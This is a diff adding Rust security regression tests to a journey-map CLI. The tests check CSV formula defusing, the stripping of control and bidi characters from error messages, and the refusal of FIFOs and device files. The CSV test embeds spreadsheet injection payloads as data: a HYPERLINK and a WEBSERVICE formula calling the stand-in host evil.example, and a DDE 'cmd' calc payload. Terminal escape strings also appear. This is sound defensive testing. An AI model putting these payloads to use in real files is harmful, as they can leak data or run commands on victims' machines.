@@ -796,6 +796,64 @@ fn export_then_import_gives_the_same_map_file() {
 }
 
 #[test]
+fn csv_exports_defuse_formulas_and_import_gives_the_text_back() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = example(dir.path(), "online-store");
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+WEBSERVICE(\"http://evil.example\")",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tTAB first",
+        "'=already quoted",
+    ];
+    let mut map = cxmap::format::parse(&std::fs::read_to_string(dir.path().join(&store)).unwrap())
+        .unwrap()
+        .map;
+    map.title = hostile[0].to_owned();
+    map.persona = hostile[5].to_owned();
+    map.stages[0].name = hostile[1].to_owned();
+    map.stages[0].touchpoints.push(hostile[4].to_owned());
+    let friction = &mut map.stages[1].frictions[0];
+    friction.text = hostile[2].to_owned();
+    friction.owner = hostile[3].to_owned();
+    friction.channel = hostile[0].to_owned();
+    std::fs::write(dir.path().join(&store), cxmap::format::encode(&map)).unwrap();
+    for (args, out) in [
+        (
+            vec!["export", &store, "-f", "csv", "-o", "store.csv"],
+            "store.csv",
+        ),
+        (
+            vec!["council", &store, "-f", "csv", "--all", "-o", "council.csv"],
+            "council.csv",
+        ),
+    ] {
+        let output = cxmap(dir.path(), &args);
+        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+        let text = std::fs::read_to_string(dir.path().join(out)).unwrap();
+        let rows = cxmap::export::rfc4180::read(&text).unwrap();
+        let numbers = ["severity", "votes", "score", "csat", "nps", "ces"];
+        for row in &rows[1..] {
+            for (cell, name) in row.iter().zip(&rows[0]) {
+                let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(
+                    !runs || numbers.contains(&name.as_str()),
+                    "{out}: column {name} would run {cell:?}"
+                );
+            }
+        }
+    }
+    let output = cxmap(dir.path(), &["import", "store.csv", "-o", "again.json"]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("again.json")).unwrap(),
+        std::fs::read_to_string(dir.path().join(&store)).unwrap(),
+        "export → import still gives the same map file"
+    );
+}
+
+#[test]
 fn coverage_with_many_channels_splits_into_tables_that_fit_80_columns() {
     let dir = tempfile::tempdir().unwrap();
     let store = example(dir.path(), "online-store");
@@ -1010,4 +1068,97 @@ fn shadow_add_refuses_an_empty_observer_and_says_when_settings_are_not_json() {
         std::fs::read_to_string(&settings).unwrap(),
         "{\"observer\": \"Zola\","
     );
+}
+
+#[test]
+fn argument_errors_never_echo_control_characters_or_bidi_overrides() {
+    let dir = tempfile::tempdir().unwrap();
+    for args in [
+        vec!["--x\u{202e}gnp.exe\u{9b}2J\u{7}"],
+        vec!["export", "map.json", "-f", "m\u{202e}d\u{9b}31m"],
+        vec!["check", "--format", "\u{1b}]0;PWNED\u{7}x"],
+    ] {
+        let output = cxmap(dir.path(), &args);
+        assert_eq!(output.status.code(), Some(2), "{args:?}");
+        let said = stderr(&output);
+        assert!(said.starts_with("error:"), "{said}");
+        for raw in ['\u{202e}', '\u{9b}', '\u{7}', '\u{1b}'] {
+            assert!(!said.contains(raw), "{args:?} echoed {raw:?}: {said:?}");
+        }
+    }
+}
+
+#[test]
+fn outputs_that_are_not_regular_files_are_refused_even_with_force() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = example(dir.path(), "online-store");
+    let fifo = dir.path().join("pipe");
+    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
+    for target in ["/dev/null", fifo.to_str().unwrap()] {
+        let output = cxmap(
+            dir.path(),
+            &["export", &store, "-f", "md", "-o", target, "--force"],
+        );
+        assert_eq!(output.status.code(), Some(1), "{target}");
+        assert!(
+            stderr(&output).contains("is not a regular file"),
+            "{}",
+            stderr(&output)
+        );
+    }
+    use std::os::unix::fs::FileTypeExt;
+    assert!(
+        std::fs::metadata("/dev/null")
+            .unwrap()
+            .file_type()
+            .is_char_device()
+    );
+    assert!(std::fs::metadata(&fifo).unwrap().file_type().is_fifo());
+    let output = cxmap(dir.path(), &["export", &store, "-f", "mermaid", "-o", "-"]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(stdout(&output).starts_with("journey"), "-o - prints");
+    assert!(!dir.path().join("-").exists());
+}
+
+#[test]
+fn a_fifo_is_refused_at_once_instead_of_waiting_forever() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("map.json");
+    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
+    let start = std::time::Instant::now();
+    for args in [vec!["check", "map.json"], vec!["map.json"]] {
+        let output = cxmap(dir.path(), &args);
+        assert_ne!(output.status.code(), Some(0), "{args:?}");
+        let said = format!("{}{}", stdout(&output), stderr(&output));
+        assert!(said.contains("not a regular file"), "{args:?}: {said}");
+    }
+    assert!(
+        start.elapsed() < std::time::Duration::from_secs(30),
+        "nothing waited on the FIFO"
+    );
+}
+
+#[test]
+fn shadow_add_leaves_a_read_only_map_alone() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let store = example(dir.path(), "online-store");
+    let path = dir.path().join(&store);
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o444)).unwrap();
+    let before = std::fs::read(&path).unwrap();
+    let args = [
+        "shadow",
+        "add",
+        &store,
+        "--stage",
+        "1",
+        "--channel",
+        "Website",
+        "--text",
+        "x",
+    ];
+    let output = cxmap_as(dir.path(), "amy", &args);
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("read-only"), "{}", stderr(&output));
+    assert_eq!(std::fs::read(&path).unwrap(), before);
 }
